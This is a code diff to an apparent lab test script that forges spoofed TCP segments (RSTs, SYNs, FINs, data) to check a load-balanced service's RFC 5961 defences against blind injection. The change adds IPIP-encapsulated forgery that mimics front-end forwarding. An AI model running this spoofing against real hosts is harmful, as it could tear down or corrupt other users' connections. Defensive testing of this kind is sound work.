@@ -24,12 +24,13 @@ and tests/lab/bench_attack.sh.
         or more than a window old), then segments of each kind at random
         sequence and acknowledgment numbers. KINDS (default RSFD) picks
         RSTs, SYNs, FINs and data. Prints "N spoofed segments in S s".
-    blind.py forward BACKEND CLIENT CLIENT_PORT SEQ COUNT
+    blind.py forward BACKEND CLIENT CLIENT_PORT SEQ COUNT [OUTER_SRC]
         (in the attacker's namespace) sends COUNT segments as
         CLIENT:CLIENT_PORT straight to BACKEND:80, as if the front-end
         had forwarded them: RSTs at SEQ itself (which the back-end's
-        stack would take), data and FINs there. Prints "N forged
-        forwarded segments".
+        stack would take), data and FINs there; with OUTER_SRC, each
+        inside IPIP from that address (as `encap ipip` forwards). Prints
+        "N forged forwarded segments".
 
 RFC 5961 is what lets none of them end or corrupt the connection; a
 segment in the window with a good acknowledgment is the attack it leaves
@@ -135,8 +136,10 @@ def attack(vip, client, port, seq, ack, count, seconds, kinds="RSFD"):
     print(sent, "spoofed segments in", round(time.monotonic() - end + seconds, 1), "s")
 
 
-def forward(backend, client, port, seq, count):
+def forward(backend, client, port, seq, count, outer=None):
     base = IP(src=client, dst=backend)
+    if outer:
+        base = IP(src=outer, dst=backend, proto=4) / base
     kinds = [TCP(sport=port, dport=80, flags="R", seq=seq),
              TCP(sport=port, dport=80, flags="RA", seq=seq, ack=random.getrandbits(32)),
              TCP(sport=port, dport=80, flags="PA", seq=seq,
@@ -156,7 +159,7 @@ if __name__ == "__main__":
         fetch(v, path, int(p), int(at), go)
     elif sys.argv[1] == "forward":
         b, c, p, s, n = sys.argv[2:7]
-        forward(b, c, int(p), int(s), int(n))
+        forward(b, c, int(p), int(s), int(n), sys.argv[7] if len(sys.argv) > 7 else None)
     else:
         v, c, p, s, a, n, t = sys.argv[2:9]
         attack(v, c, int(p), int(s), int(a), int(n), float(t), *sys.argv[9:10])
